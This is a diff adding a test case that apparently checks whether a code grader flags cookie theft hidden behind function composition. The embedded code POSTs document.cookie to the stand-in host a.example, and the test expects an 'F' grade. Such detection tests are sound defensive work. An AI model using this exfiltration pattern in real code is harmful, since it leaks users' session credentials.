@@ -93,3 +93,9 @@ it.each([10, 62, 150])(
     expect(await graded({ content: `${nest.join(' ')} ${start}` })).toBe('F');
   },
 );
+
+it('hands on what one function gives to another that it is told', async () => {
+  const compose = 'const compose = (one, other) => (...args) => one(other(...args));';
+  const send = "const send = (x) => fetch('https://a.example/', { method: 'POST', body: x });";
+  expect(await graded({ content: `${compose} ${send} compose(send, (x) => x.trim())(document.cookie);` })).toBe('F');
+});
